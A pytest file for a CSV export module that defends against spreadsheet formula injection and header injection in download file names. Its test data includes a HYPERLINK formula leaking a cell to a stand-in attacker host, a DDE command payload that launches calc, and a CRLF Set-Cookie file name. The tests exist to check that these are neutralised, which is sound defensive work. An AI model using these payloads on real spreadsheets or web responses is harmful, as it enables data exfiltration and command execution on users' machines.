"""The one CSV writer: every text cell a spreadsheet would run as a formula comes out as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from core.csvexport import CsvWriter, csv_response, neutralize

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth equals sign
    "\uff0b1",  # fullwidth plus
    "\uff0d1",  # fullwidth hyphen-minus
    "\uff20SUM(A1)",  # fullwidth commercial at
    "\ufe661+1",  # small equals sign
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_starting_like_a_formula_is_quoted_as_text(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada Lovelace", "ada@example.com", "", "1 = 1", "a-b", "'=quoted"])
def test_ordinary_text_is_unchanged(value):
    assert neutralize(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, Decimal("-1.50"), None])
def test_numbers_and_empty_cells_are_data(value):
    assert neutralize(value) == value


def test_the_writer_neutralizes_every_row_header_included():
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["Learner", "=cmd (of 10)"])
    writer.writerows([["@me", -3], ["Bo", Decimal("7.50")]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["Learner", "'=cmd (of 10)"], ["'@me", "-3"], ["Bo", "7.50"]]


def test_the_response_is_a_csv_attachment_with_a_safe_file_name():
    response = csv_response(filename='report "x"\r\nSet-Cookie: a=b.csv', header=["=h"], rows=[["+r"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report-x-Set-Cookie-a-b.csv"'
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [["'=h"], ["'+r"]]


def test_no_module_but_this_one_writes_csv():
    """Every export goes through core.csvexport (one guard, no gaps between copies)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    skip = {"node_modules", ".venv", ".data", "tests", "migrations", ".git"}
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if not skip & set(path.relative_to(root).parts)
        and ("csv.writer" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter" in text)
    ]
    assert writers == ["core/csvexport.py"]
